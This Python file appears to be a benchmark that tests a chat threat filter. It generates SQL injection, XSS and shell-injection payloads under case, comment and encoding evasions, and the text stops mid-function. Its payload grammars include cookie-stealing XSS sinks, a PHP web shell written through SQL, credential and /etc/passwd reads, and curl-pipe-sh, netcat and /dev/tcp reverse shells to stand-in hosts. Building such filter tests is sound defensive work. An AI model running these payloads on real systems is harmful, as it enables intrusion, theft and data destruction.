"""Classic injections composed afresh: each family's payload grammars under the evasions attackers stack.

    .venv/bin/python benchmarks/threat/classic_fresh.py [--count 120] [--seed 11] [--part tuning|validation|both]
                                                        [--show 5] [--family NAME] [--by-technique]

Written for this project from each technique's grammar (what the interpreter behind the chat accepts), never
from a payload collection. A line is a *technique* of its family (a UNION probe, an event handler on a tag, a
quote-split shell word, an overlong traversal...) spelt through one of the family's *inner evasions* (case
mixing, comments inside or between keywords, other white space, entity or escape spellings inside an
attribute or a string) and, some of the time, one *outer layer* a backend undoes before its interpreter reads
the value (percent encoding once or twice, HTML character references, JSON or `%u` escapes).

The split is made before any line is read: within each family, techniques, inner evasions and outer layers
are each sorted by a hash of their name and dealt in turn to `tuning` and `validation`. A tuning line is a
tuning technique under a tuning evasion and layer; a validation line uses only the validation ones. So a rule
written from the tuning part meets, in validation, payloads of other shapes under other disguises: a fix that
raises tuning alone is memorisation. The `benign` families (technical chat with the same characters) are
split the same way and must stay unflagged. Prints the share flagged (sink `bot`: blocked, modified or an
alert) per family and part; `--show N` prints misses of the tuning part only.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import random
import sys
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

sys.path[:0] = [str(Path(__file__).resolve().parents[2])]

from filters import Action  # noqa: E402
from filters.threat import ThreatFilter, ThreatOptions  # noqa: E402

TUNING, VALIDATION = "tuning", "validation"
PARTS = (TUNING, VALIDATION)


# ---------------------------------------------------------------- spelling helpers

def mixed_case(rng: random.Random, word: str) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in word)


def _any_case(rng: random.Random, word: str) -> str:
    return rng.choice((word.lower(), word.upper(), word.capitalize()))


@dataclass(frozen=True)
class Inner:
    """How a payload's parts are spelt: keywords, the gaps between words, JavaScript names and HTML values.

    `kw` spells a keyword (SQL, shell command, tag or attribute name), `sp` gives one gap, `js` respells a
    JavaScript call (`alert(1)`), `attr` respells an attribute's value as HTML would still decode it."""

    name: str
    kw: Callable[[random.Random, str], str] = lambda rng, word: word
    sp: Callable[[random.Random], str] = lambda rng: " "
    js: Callable[[random.Random, str], str] = lambda rng, code: code
    attr: Callable[[random.Random, str], str] = lambda rng, value: value


# Outer layers: what a backend or a framework undoes before the value reaches its interpreter.
def _url(text: str) -> str:
    return quote(text, safe="")


def _url_all(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


def _url_twice(text: str) -> str:
    return quote(quote(text, safe=""), safe="")


def _url_marks(text: str) -> str:
    """Only the marks percent-encoded (letters and digits left), lower-case hex."""
    return "".join(c if c.isalnum() else "".join(f"%{b:02x}" for b in c.encode()) for c in text)


def _entities_dec(text: str) -> str:
    return "".join(c if c.isalnum() or c == " " else f"&#{ord(c)};" for c in text)


def _entities_hex_padded(text: str) -> str:
    return "".join(c if c.isalnum() or c == " " else f"&#x{ord(c):04x};" for c in text)


def _entities_named(text: str) -> str:
    names = {"<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&apos;", "&": "&amp;", "(": "&lpar;", ")": "&rpar;",
             "/": "&sol;", ":": "&colon;", "=": "&equals;"}
    return "".join(names.get(c, c) for c in text)


def _json_escapes(text: str) -> str:
    return "".join(c if c.isalnum() or c == " " else f"\\u{ord(c):04x}" for c in text)


def _percent_u(text: str) -> str:
    return "".join(c if c.isalnum() else f"%u{ord(c):04X}" for c in text)


def _plus_form(text: str) -> str:
    """A form body: spaces as `+`, the rest percent-encoded."""
    return quote(text, safe="").replace("%20", "+")


OUTER: dict[str, Callable[[str], str]] = {
    "url": _url, "url-all": _url_all, "url-twice": _url_twice, "url-marks": _url_marks,
    "entities-dec": _entities_dec, "entities-hex": _entities_hex_padded, "entities-named": _entities_named,
    "json-escapes": _json_escapes, "percent-u": _percent_u, "form": _plus_form,
}
OUTER_SHARE = 0.35  # lines given an outer layer; the rest are sent as typed


# ---------------------------------------------------------------- SQL

def _sq_value(rng: random.Random) -> str:
    return rng.choice(("", "1", "42", "admin", "jane", "x", "abc123", "7"))


def _sql_closer(rng: random.Random) -> str:
    return rng.choice(("'", "'", '"', "')", "1)", "'))", "' "))


def _sql_tail(rng: random.Random, e: Inner) -> str:
    return rng.choice(("--" + e.sp(rng), "-- x", "#", "/*", ";--", "", ";%00"))


def _n(rng: random.Random) -> int:
    return rng.randint(1, 999)


def sql_tautology(rng: random.Random, e: Inner) -> str:
    n = _n(rng)
    s = e.sp
    cond = rng.choice((f"{n}={n}", f"'{n}'='{n}", f"{n}<{n + 3}", f"{e.kw(rng, 'not')}{s(rng)}{n}={n + 1}",
                       f"'a'{s(rng)}{e.kw(rng, 'like')}{s(rng)}'a", f"{n}{s(rng)}{e.kw(rng, 'between')}{s(rng)}0"
                       f"{s(rng)}{e.kw(rng, 'and')}{s(rng)}{n + 1}", e.kw(rng, "true")))
    joiner = rng.choice((e.kw(rng, "or"), e.kw(rng, "or"), "||"))
    return f"{_sq_value(rng)}{_sql_closer(rng)}{s(rng)}{joiner}{s(rng)}{cond}{s(rng)}{_sql_tail(rng, e)}"


def sql_union(rng: random.Random, e: Inner) -> str:
    s = e.sp
    cols = ",".join(rng.choice(("null", "1", "2", "@@version", "user()", "database()", "table_name", "0x41"))
                    for _ in range(rng.randint(1, 6)))
    source = rng.choice(("", f"{s(rng)}{e.kw(rng, 'from')}{s(rng)}information_schema.tables",
                         f"{s(rng)}{e.kw(rng, 'from')}{s(rng)}users", f"{s(rng)}{e.kw(rng, 'from')}{s(rng)}dual"))
    head = rng.choice((_sq_value(rng) + _sql_closer(rng), str(-_n(rng)), "0"))
    every = rng.choice(("", e.kw(rng, "all") + s(rng)))
    return f"{head}{s(rng)}{e.kw(rng, 'union')}{s(rng)}{every}{e.kw(rng, 'select')}{s(rng)}{cols}{source}" \
           f"{s(rng)}{_sql_tail(rng, e)}"


def sql_time(rng: random.Random, e: Inner) -> str:
    s = e.sp
    t = rng.randint(2, 15)
    delay = rng.choice((f"{e.kw(rng, 'sleep')}({t})", f"{e.kw(rng, 'pg_sleep')}({t})",
                        f"{e.kw(rng, 'benchmark')}({t}000000,md5(1))",
                        f"(select{s(rng)}*{s(rng)}from{s(rng)}(select({e.kw(rng, 'sleep')}({t})))x)"))
    shape = rng.randrange(4)
    if shape == 0:
        return f"{_sq_value(rng)}{_sql_closer(rng)}{s(rng)}{e.kw(rng, 'and')}{s(rng)}{delay}{s(rng)}{_sql_tail(rng, e)}"
    if shape == 1:
        return f"{_sq_value(rng)}';{s(rng)}{e.kw(rng, 'waitfor')}{s(rng)}{e.kw(rng, 'delay')}{s(rng)}'0:0:{t}'--"
    if shape == 2:
        return f"{_n(rng)}{s(rng)}{e.kw(rng, 'and')}{s(rng)}{e.kw(rng, 'if')}(1=1,{delay},0)"
    return f"'{s(rng)}||{s(rng)}{delay}{s(rng)}||{s(rng)}'"


def sql_stacked(rng: random.Random, e: Inner) -> str:
    s = e.sp
    table = rng.choice(("users", "accounts", "orders", "sessions", "audit_log"))
    statement = rng.choice((
        f"{e.kw(rng, 'drop')}{s(rng)}{e.kw(rng, 'table')}{s(rng)}{table}",
        f"{e.kw(rng, 'delete')}{s(rng)}{e.kw(rng, 'from')}{s(rng)}{table}",
        f"{e.kw(rng, 'update')}{s(rng)}{table}{s(rng)}{e.kw(rng, 'set')}{s(rng)}role='admin'",
        f"{e.kw(rng, 'insert')}{s(rng)}{e.kw(rng, 'into')}{s(rng)}{table}{s(rng)}{e.kw(rng, 'values')}('x','y')",
        f"{e.kw(rng, 'exec')}{s(rng)}master..xp_cmdshell{s(rng)}'whoami'",
        f"{e.kw(rng, 'shutdown')}",
        f"{e.kw(rng, 'copy')}{s(rng)}(select{s(rng)}'')" f"{s(rng)}to{s(rng)}program{s(rng)}'id'",
        f"{e.kw(rng, 'truncate')}{s(rng)}{e.kw(rng, 'table')}{s(rng)}{table}",
    ))
    return f"{_sq_value(rng)}{rng.choice(('', chr(39), chr(39) + ')'))};{s(rng)}{statement}{rng.choice((';', ';--', '--', ''))}"


def sql_error(rng: random.Random, e: Inner) -> str:
    s = e.sp
    leak = rng.choice(("@@version", "user()", "database()", f"(select{s(rng)}password{s(rng)}from{s(rng)}users"
                       f"{s(rng)}limit{s(rng)}1)"))
    probe = rng.choice((
        f"{e.kw(rng, 'extractvalue')}(1,{e.kw(rng, 'concat')}(0x7e,{leak}))",
        f"{e.kw(rng, 'updatexml')}(1,{e.kw(rng, 'concat')}(0x3a,{leak}),1)",
        f"1={e.kw(rng, 'convert')}(int,{leak})",
        f"{e.kw(rng, 'cast')}({leak}{s(rng)}as{s(rng)}int)=1",
        f"1=({e.kw(rng, 'select')}{s(rng)}1{s(rng)}from{s(rng)}(select{s(rng)}count(*),concat({leak},floor(rand(0)*2))x"
        f"{s(rng)}from{s(rng)}information_schema.tables{s(rng)}group{s(rng)}by{s(rng)}x)y)",
    ))
    return f"{_sq_value(rng)}{_sql_closer(rng)}{s(rng)}{e.kw(rng, 'and')}{s(rng)}{probe}{s(rng)}{_sql_tail(rng, e)}"


def sql_blind(rng: random.Random, e: Inner) -> str:
    s = e.sp
    target = rng.choice(("database()", "user()", f"(select{s(rng)}password{s(rng)}from{s(rng)}users{s(rng)}where"
                         f"{s(rng)}id=1)", "@@version"))
    char = rng.choice((f"{e.kw(rng, 'substring')}({target},{_n(rng) % 20 + 1},1)='{rng.choice('abcdef')}'",
                       f"{e.kw(rng, 'ascii')}({e.kw(rng, 'substr')}({target},1,1))>{rng.randint(60, 120)}",
                       f"{e.kw(rng, 'length')}({target})={rng.randint(3, 30)}",
                       f"{e.kw(rng, 'mid')}({target},1,1)={e.kw(rng, 'char')}({rng.randint(97, 122)})"))
    return f"{_sq_value(rng)}{_sql_closer(rng)}{s(rng)}{e.kw(rng, 'and')}{s(rng)}{char}{s(rng)}{_sql_tail(rng, e)}"


def sql_literals(rng: random.Random, e: Inner) -> str:
    """Strings spelt without quotes: hex numbers and char() calls, as filters of quotes are dodged."""
    s = e.sp
    word = rng.choice(("admin", "root", "secret", "x"))
    spelt = rng.choice(("0x" + word.encode().hex(), e.kw(rng, "char") + "(" + ",".join(str(ord(c)) for c in word) + ")",
                        "unhex('" + word.encode().hex() + "')"))
    shape = rng.randrange(3)
    if shape == 0:
        return f"{_n(rng)}{s(rng)}{e.kw(rng, 'or')}{s(rng)}username={spelt}{s(rng)}{_sql_tail(rng, e)}"
    if shape == 1:
        return f"-{_n(rng)}{s(rng)}{e.kw(rng, 'union')}{s(rng)}{e.kw(rng, 'select')}{s(rng)}{spelt},2,3"
    return f"{_n(rng)}){s(rng)}{e.kw(rng, 'and')}{s(rng)}password={spelt}{s(rng)}{_sql_tail(rng, e)}"


def sql_concat(rng: random.Random, e: Inner) -> str:
    """A value rebuilt by the database's string joins: 'ad'||'min', 'ad'+'min', concat('ad','min')."""
    s = e.sp
    word = rng.choice(("admin", "root", "administrator", "sa"))
    cut = rng.randint(1, len(word) - 1)
    head, tail = word[:cut], word[cut:]
    spelt = rng.choice((f"'{head}'||'{tail}", f"'{head}'+'{tail}", f"{e.kw(rng, 'concat')}('{head}','{tail}')",
                        f"'{head}'{s(rng)}'{tail}"))
    shape = rng.randrange(3)
    if shape == 0:
        return f"{spelt}'{s(rng)}--" if spelt.endswith(tail) else f"x'{s(rng)}{e.kw(rng, 'or')}{s(rng)}user={spelt}--"
    if shape == 1:
        return f"x'{s(rng)}{e.kw(rng, 'or')}{s(rng)}username={spelt}{rng.choice(('', chr(39)))}{s(rng)}--"
    return f"{_n(rng)}{s(rng)}{e.kw(rng, 'or')}{s(rng)}{spelt}'='{word}"


def sql_order(rng: random.Random, e: Inner) -> str:
    s = e.sp
    clause = rng.choice((f"{e.kw(rng, 'order')}{s(rng)}{e.kw(rng, 'by')}{s(rng)}{rng.randint(1, 40)}",
                         f"{e.kw(rng, 'group')}{s(rng)}{e.kw(rng, 'by')}{s(rng)}{rng.randint(1, 40)}",
                         f"{e.kw(rng, 'having')}{s(rng)}{_n(rng)}={_n(rng)}",
                         f"{e.kw(rng, 'procedure')}{s(rng)}analyse()"))
    return f"{_sq_value(rng)}{_sql_closer(rng)}{s(rng)}{clause}{s(rng)}{_sql_tail(rng, e)}"


def sql_file(rng: random.Random, e: Inner) -> str:
    s = e.sp
    shape = rng.randrange(3)
    if shape == 0:
        return (f"{_n(rng)}{s(rng)}{e.kw(rng, 'union')}{s(rng)}{e.kw(rng, 'select')}{s(rng)}"
                f"{e.kw(rng, 'load_file')}('/etc/{rng.choice(('passwd', 'hosts', 'my.cnf'))}')--")
    if shape == 1:
        return (f"x'{s(rng)}{e.kw(rng, 'union')}{s(rng)}{e.kw(rng, 'select')}{s(rng)}'<?php system($_GET[1]); ?>'"
                f"{s(rng)}{e.kw(rng, 'into')}{s(rng)}{e.kw(rng, 'outfile')}{s(rng)}'/var/www/html/{rng.choice('abc')}.php'--")
    return f"1;{s(rng)}{e.kw(rng, 'select')}{s(rng)}pg_read_file('/etc/passwd')--"


def sql_spaceless(rng: random.Random, e: Inner) -> str:
    """No white space at all: parentheses and quotes part the words."""
    n = _n(rng)
    return rng.choice((
        f"'{e.kw(rng, 'or')}({n})=({n})#",
        f"'{e.kw(rng, 'or')}'{n}'='{n}",
        f"{n}){e.kw(rng, 'union')}({e.kw(rng, 'select')}(1),(2),(user()))#",
        f"'{e.kw(rng, 'and')}({e.kw(rng, 'sleep')}({n % 9 + 1}))--",
        f"admin'/**/{e.kw(rng, 'or')}/**/1=1#",
        f"{n}'{e.kw(rng, 'xor')}(if(now()=sysdate(),sleep({n % 9 + 1}),0))xor'z",
    ))


SQL = {
    "tautology": sql_tautology, "union": sql_union, "time": sql_time, "stacked": sql_stacked,
    "error": sql_error, "blind": sql_blind, "literals": sql_literals, "concat": sql_concat,
    "order-probe": sql_order, "file": sql_file, "spaceless": sql_spaceless,
}


def _comment_in(rng: random.Random, word: str) -> str:
    """A comment inside a keyword (`UN/**/ION`): read where a filter strips comments before the database."""
    if len(word) < 3:
        return word
    cut = rng.randint(1, len(word) - 1)
    return word[:cut] + rng.choice(("/**/", "/*x*/", "/*!*/")) + word[cut:]


def _doubled(rng: random.Random, word: str) -> str:
    """A keyword written inside itself (`UNunionION`): what is left once a filter strips it once."""
    if len(word) < 3:
        return word
    cut = rng.randint(1, len(word) - 1)
    return word[:cut] + word + word[cut:]


SQL_INNER = (
    Inner("plain"),
    Inner("case", kw=mixed_case),
    Inner("upper", kw=lambda rng, w: w.upper()),
    Inner("comment-gap", sp=lambda rng: rng.choice(("/**/", "/*foo*/", "/**_**/"))),
    Inner("comment-in-keyword", kw=_comment_in),
    Inner("versioned", kw=lambda rng, w: f"/*!{rng.choice(('', '50000', '12345'))}{w}*/" if len(w) > 2 else w),
    Inner("tab-newline", sp=lambda rng: rng.choice(("\t", "\n", "\r\n", "\x0b", "\x0c"))),
    Inner("percent-space", sp=lambda rng: rng.choice(("%0a", "%09", "%0d%0a", "%0b", "%0c", "%a0"))),
    Inner("plus", sp=lambda rng: "+"),
    Inner("double-space", sp=lambda rng: rng.choice(("  ", " \t", "\n\n"))),
    Inner("doubled-keyword", kw=_doubled),
    Inner("case-comment", kw=lambda rng, w: mixed_case(rng, w), sp=lambda rng: "/**/"),
)


# ---------------------------------------------------------------- XSS

_SINKS = ("alert(1)", "alert(document.domain)", "confirm(1)", "prompt(document.cookie)",
          "fetch('//x.example/'+document.cookie)", "location='//x.example/?c='+document.cookie",
          "new Image().src='//x.example/'+document.cookie", "import('//x.example/m.js')", "print()",
          "eval(atob('YWxlcnQoMSk='))", "setTimeout('alert(1)')", "top['al'+'ert'](1)",
          "window['ale'+'rt'](document.cookie)", "[].constructor.constructor('alert(1)')()",
          "Function('alert(1)')()", "eval(String.fromCharCode(97,108,101,114,116,40,49,41))", "alert`1`",
          "document.location='//x.example/'+localStorage.token", "navigator.sendBeacon('//x.example',document.cookie)")


def _sink(rng: random.Random, e: Inner) -> str:
    return e.js(rng, rng.choice(_SINKS))


def _sep(rng: random.Random, e: Inner) -> str:
    return e.sp(rng)


def _breakout(rng: random.Random) -> str:
    return rng.choice(("", "", "\">", "'>", "</title>", "</textarea>", "\"/>", "--!>", "</style>", "]]>"))


_HANDLER_TAGS = (("img", "src=x", "onerror"), ("svg", "", "onload"), ("body", "", "onload"),
                 ("body", "", "onpageshow"), ("iframe", "src=about:blank", "onload"),
                 ("details", "open", "ontoggle"), ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"),
                 ("input", "autofocus", "onfocus"), ("select", "autofocus", "onfocus"),
                 ("textarea", "autofocus", "onfocus"), ("marquee", "", "onstart"), ("object", "data=x", "onerror"),
                 ("a", "href=#", "onmouseover"), ("div", "", "onpointerenter"), ("style", "", "onload"),
                 ("form", "", "onsubmit"), ("button", "", "onclick"), ("keygen", "autofocus", "onfocus"),
                 ("img", "src=//x", "onload"), ("embed", "src=x", "onerror"), ("source", "src=x", "onerror"),
                 ("link", "rel=stylesheet href=x", "onerror"), ("svg", "", "onbegin"), ("frameset", "", "onload"),
                 ("span", "tabindex=1", "onfocusin"), ("p", "", "onanimationstart"), ("x", "", "oncontentvisibilityautostatechange"),
                 ("table", "background=x", "onerror"), ("dialog", "open", "onclose"))


def xss_handler(rng: random.Random, e: Inner) -> str:
    tag, attrs, handler = rng.choice(_HANDLER_TAGS)
    q = rng.choice(("", '"', "'"))
    gap = _sep(rng, e)
    extra = f"{gap}{attrs}" if attrs else ""
    return f"{_breakout(rng)}<{e.kw(rng, tag)}{extra}{gap}{e.kw(rng, handler)}={q}{e.attr(rng, _sink(rng, e))}{q}>"


def xss_js_url(rng: random.Random, e: Inner) -> str:
    scheme = rng.choice(("javascript:", "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:",
                         " javascript:", "\x01javascript:", "jav&#x09;ascript:", "javas&#99;ript:",
                         "java&#x0A;script:", "&#106;avascript:", "javascript&colon;", "vbscript:"))
    where = rng.choice((("a", "href"), ("iframe", "src"), ("form", "action"), ("button", "formaction"),
                        ("object", "data"), ("embed", "src"), ("math", "href"), ("svg><a", "xlink:href"),
                        ("base", "href"), ("input type=image", "src"), ("area", "href")))
    q = rng.choice(('"', "'", ""))
    gap = _sep(rng, e)
    return (f"{_breakout(rng)}<{e.kw(rng, where[0])}{gap}{where[1]}={q}{scheme}{e.attr(rng, _sink(rng, e))}{q}>"
            f"{rng.choice(('click', 'x', ''))}")


def xss_bare_js_url(rng: random.Random, e: Inner) -> str:
    """A value a page puts in a link or a redirect itself: the URL alone."""
    scheme = rng.choice(("javascript:", "JAVASCRIPT:", "javascript://%0a", "javascript://comment%0d%0a",
                         "java%09script:", "javascript:/*x*/"))
    return f"{scheme}{_sink(rng, e)}"


def xss_script(rng: random.Random, e: Inner) -> str:
    open_ = rng.choice(("<script>", "<script >", "<script/x>", "<script\n>", "<script type=module>",
                        "<script src=//x.example/a.js>", "<script/src=data:,alert(1)>"))
    open_ = open_.replace("script", e.kw(rng, "script"))
    return f"{_breakout(rng)}{open_}{_sink(rng, e)}</{e.kw(rng, 'script')}>"


def xss_svg_math(rng: random.Random, e: Inner) -> str:
    gap = _sep(rng, e)
    sink = e.attr(rng, _sink(rng, e))
    return rng.choice((
        f"<{e.kw(rng, 'svg')}><animate{gap}onbegin={sink}{gap}attributeName=x{gap}dur=1s>",
        f"<{e.kw(rng, 'svg')}><set{gap}attributeName=href{gap}to=javascript:{sink}>",
        f"<{e.kw(rng, 'svg')}><a><animate{gap}attributeName=href{gap}values=javascript:{sink} /><text{gap}x=20{gap}y=20>go</text></a>",
        f"<{e.kw(rng, 'math')}><maction{gap}actiontype=statusline{gap}xlink:href=javascript:{sink}>x</maction></math>",
        f"<{e.kw(rng, 'math')}><mtext><table><mglyph><style><img{gap}src=x{gap}onerror={sink}>",
        f"<{e.kw(rng, 'svg')}><script>{_sink(rng, e)}</script></svg>",
        f"<{e.kw(rng, 'svg')}><foreignObject><iframe{gap}srcdoc=\"&lt;script&gt;{sink}&lt;/script&gt;\">",
        f"<{e.kw(rng, 'svg')}><use{gap}href=\"data:image/svg+xml;base64,PHN2ZyBpZD0ieCIvPg==#x\"/>",
    ))


def xss_attribute(rng: random.Random, e: Inner) -> str:
    """A value that leaves the attribute it lands in and adds a handler to the same tag."""
    q = rng.choice(('"', "'"))
    gap = _sep(rng, e)
    handler = rng.choice(("onfocus", "onmouseover", "onpointerover", "onanimationstart", "onclick", "onblur",
                          "onfocusin"))
    after = rng.choice(("autofocus", "style=animation-name:x", "tabindex=0", "x="))
    return f"{rng.choice(('x', 'search', ''))}{q}{gap}{after}{gap}{e.kw(rng, handler)}={q}{e.attr(rng, _sink(rng, e))}{gap}x={q}"


def xss_js_string(rng: random.Random, e: Inner) -> str:
    """A value that leaves a JavaScript string in an inline script."""
    sink = _sink(rng, e)
    return rng.choice((f"';{sink};//", f"\";{sink};//", f"'-{sink}-'", f"\"+{sink}+\"", f"\\';{sink}//",
                       f"</script><script>{sink}</script>", f"${{{sink}}}", f"'}};{sink};{{'", f"`;{sink};//"))


def xss_data_uri(rng: random.Random, e: Inner) -> str:
    gap = _sep(rng, e)
    body = rng.choice(("text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "text/html,<script>alert(1)</script>",
                       "image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
                       "application/javascript,alert(1)"))
    tag = rng.choice((("iframe", "src"), ("object", "data"), ("embed", "src"), ("a", "href"), ("script", "src")))
    return f"<{e.kw(rng, tag[0])}{gap}{tag[1]}=\"data:{body}\">"


def xss_polyglot(rng: random.Random, e: Inner) -> str:
    sink = _sink(rng, e)
    return rng.choice((
        f"'\"><svg/onload={sink}>//",
        f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{sink}//'>",
        f"\"'--></noscript></template><img src=x onerror={sink}>",
        f"</script><svg><script>{sink}</script>",
        f"';{sink}//\";{sink}//--></script><script>{sink}</script>",
    ))


XSS = {
    "handler": xss_handler, "js-url": xss_js_url, "bare-js-url": xss_bare_js_url, "script": xss_script,
    "svg-math": xss_svg_math, "attribute": xss_attribute, "js-string": xss_js_string, "data-uri": xss_data_uri,
    "polyglot": xss_polyglot,
}


def _js_unicode(rng: random.Random, code: str) -> str:
    """A name's first letter as a JavaScript escape (`\\u0061lert`), which the parser reads as the letter."""
    head = code[0]
    spelt = rng.choice((f"\\u{ord(head):04x}", f"\\u{{{ord(head):x}}}"))
    return spelt + code[1:] if head.isalpha() else code


def _attr_entities(rng: random.Random, value: str) -> str:
    """An attribute value with some characters as character references, as the HTML parser decodes them."""
    out = []
    for c in value:
        if rng.random() < 0.5:
            out.append(rng.choice((f"&#{ord(c)};", f"&#x{ord(c):x};", f"&#{ord(c):07d}", f"&#x{ord(c):X}")))
        else:
            out.append(c)
    return "".join(out)


def _js_hex_string(rng: random.Random, code: str) -> str:
    """The call moved into a string of hex escapes that `eval` or a timer runs."""
    escaped = "".join(f"\\x{ord(c):02x}" for c in code)
    return rng.choice((f"eval('{escaped}')", f"setTimeout(\"{escaped}\")", f"Function('{escaped}')()"))


XSS_INNER = (
    Inner("plain"),
    Inner("case", kw=mixed_case),
    Inner("slash-gap", sp=lambda rng: rng.choice(("/", "/x/", " /"))),
    Inner("control-gap", sp=lambda rng: rng.choice(("\t", "\n", "\x0c", "\r"))),
    Inner("js-unicode", js=_js_unicode),
    Inner("attr-entities", attr=_attr_entities),
    Inner("js-hex-string", js=_js_hex_string),
    Inner("backtick", js=lambda rng, code: code.replace("(1)", "`1`").replace("('", "`").replace("')", "`")),
    Inner("case-newline", kw=lambda rng, w: w.upper(), sp=lambda rng: "\n"),
    Inner("comment-js", js=lambda rng, code: code.replace("(", "/**/(", 1)),
)


# ---------------------------------------------------------------- shell

_CMDS = ("id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "cat /etc/shadow", "ps aux", "env",
         "curl http://x.example/s.sh|sh", "wget -qO- http://x.example/i|bash", "sleep 10", "nslookup x.example",
         "rm -rf /tmp/*", "nc -e /bin/sh 10.0.0.9 4444", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1",
         "ping -c 10 127.0.0.1", "echo pwned > /var/www/html/p.txt", "cat ~/.aws/credentials", "hostname")


def _value(rng: random.Random) -> str:
    return rng.choice(("127.0.0.1", "8.8.8.8", "report.pdf", "x", "", "google.com", "1", "test"))


def _cmd(rng: random.Random, e: Inner) -> str:
    words = rng.choice(_CMDS).split(" ")
    words[0] = e.kw(rng, words[0])
    return e.sp(rng).join(words)


def sh_separator(rng: random.Random, e: Inner) -> str:
    sep = rng.choice((";", "|", "||", "&&", "&", "\n", "%0a", "\r\n", ";;"))
    return f"{_value(rng)}{rng.choice(('', ' '))}{sep}{rng.choice(('', ' '))}{_cmd(rng, e)}{rng.choice(('', ' #', ';', '&'))}"


def sh_substitution(rng: random.Random, e: Inner) -> str:
    cmd = _cmd(rng, e)
    sub = rng.choice((f"$({cmd})", f"`{cmd}`", f"$({cmd})"))
    return rng.choice((f"{_value(rng)}{sub}", f"{sub}", f"x{sub}.x.example", f"\"{sub}\"", f"name=$({cmd})"))


def sh_ifs(rng: random.Random, e: Inner) -> str:
    gap = rng.choice(("${IFS}", "$IFS", "${IFS%??}", "$IFS$9", "${IFS}"))
    words = rng.choice(_CMDS).split(" ")
    return f"{_value(rng)}{rng.choice((';', '|', '&&', '%0a'))}{gap.join(words)}"


def sh_brace(rng: random.Random, e: Inner) -> str:
    words = rng.choice(("cat /etc/passwd", "ls -la", "nc 10.0.0.9 4444 -e /bin/sh", "wget http://x.example/s",
                        "curl x.example", "id", "rm -rf /")).split(" ")
    return f"{_value(rng)}{rng.choice((';', '|', '&&', '%0a', '`'))}{{{','.join(words)}}}"


def _split_quotes(rng: random.Random, word: str) -> str:
    if len(word) < 2:
        return word
    cut = rng.randint(1, len(word) - 1)
    mark = rng.choice(("''", '""', "\\", "$@", "${x}", "$()"))
    return word[:cut] + mark + word[cut:]


def sh_quote_split(rng: random.Random, e: Inner) -> str:
    words = rng.choice(_CMDS).split(" ")
    words[0] = _split_quotes(rng, words[0])
    if len(words) > 1 and rng.random() < 0.5:
        words[-1] = _split_quotes(rng, words[-1])
    return f"{_value(rng)}{rng.choice((';', '|', '&&', '||', '%0a', '$(', '`'))}{e.sp(rng).join(words)}"


def sh_wildcard(rng: random.Random, e: Inner) -> str:
    spelt = rng.choice(("/???/c?t /e??/p??s??", "/bin/c?t /etc/pa??wd", "/???/??t /???/p?ss??", "/b*/c*t /e*c/p*d",
                        "/?s?/b??/w?o?m?", "/???/n? -e /???/b??h 10.0.0.9 4444", "/u*/b*/i?",
                        "/bin/ca[t] /et[c]/passw[d]", "/???/?[a]t /???/s?a?o?"))
    return f"{_value(rng)}{rng.choice((';', '|', '&&', '%0a', '||'))}{spelt}"


def sh_variables(rng: random.Random, e: Inner) -> str:
    word = rng.choice(("cat", "whoami", "id", "uname"))
    cut = rng.randint(1, len(word) - 1)
    return rng.choice((
        f"{_value(rng)};a={word[:cut]};b={word[cut:]};$a$b",
        f"{_value(rng)};x={word};$x /etc/passwd",
        f"{_value(rng)}|$(printf '\\x{ord(word[0]):02x}{word[1:]}')",
        f"{_value(rng)};$'\\x{ord(word[0]):02x}\\x{ord(word[1]):02x}{word[2:]}'",
        f"{_value(rng)};$(echo {word[::-1]}|rev)",
        f"{_value(rng)};`echo {word.encode().hex()}|xxd -r -p`",
    ))


def sh_windows(rng: random.Random, e: Inner) -> str:
    cmd = rng.choice(("whoami", "net user", "ipconfig /all", "type C:\\Windows\\win.ini", "dir C:\\",
                      "net localgroup administrators", "certutil -urlcache -f http://x.example/a.exe a.exe",
                      "tasklist", "systeminfo"))
    return rng.choice((
        f"{_value(rng)} & {cmd}", f"{_value(rng)} | {cmd}", f"{_value(rng)} && {e.kw(rng, 'cmd')} /c {cmd}",
        f"{_value(rng)} || {e.kw(rng, 'cmd.exe')} /c \"{cmd}\"", f"{_value(rng)}&{cmd}&",
        f"{_value(rng)} & w^h^o^a^m^i", f"{_value(rng)} | c^m^d /c {cmd}",
        f"{_value(rng)} & %COMSPEC% /c {cmd}",
    ))


def sh_powershell(rng: random.Random, e: Inner) -> str:
    script = rng.choice(("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", "whoami",
                         "Get-Process", "Invoke-WebRequest http://x.example -OutFile a.exe; ./a.exe"))
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    ps = e.kw(rng, rng.choice(("powershell", "powershell.exe", "pwsh")))
    return rng.choice((
        f"{_value(rng)} & {ps} -enc {encoded}", f"{_value(rng)} | {ps} -e {encoded}",
        f"{_value(rng)} && {ps} -nop -w hidden -c \"{script}\"",
        f"{_value(rng)}; {ps} -EncodedCommand {encoded}",
        f"{_value(rng)} & {ps} -ExecutionPolicy Bypass -c \"{script}\"",
        f"{_value(rng)} | {ps} -noni -c \"IEX(iwr http://x.example/b -UseBasicParsing)\"",
    ))


def sh_reverse(rng: random.Random, e: Inner) -> str:
    host, port = rng.choice(("10.0.0.9", "203.0.113.7", "x.example")), rng.randint(1024, 65000)
    return f"{_value(rng)}{rng.choice((';', '|', '&&', '%0a'))}" + rng.choice((
        f"bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'",
        f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {host} {port} >/tmp/f",
        f"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{host}\",{port}));pty.spawn(\"sh\")'",
        f"ncat {host} {port} -e /bin/bash", f"socat tcp:{host}:{port} exec:sh",
        f"php -r '$s=fsockopen(\"{host}\",{port});exec(\"sh <&3 >&3\");'",
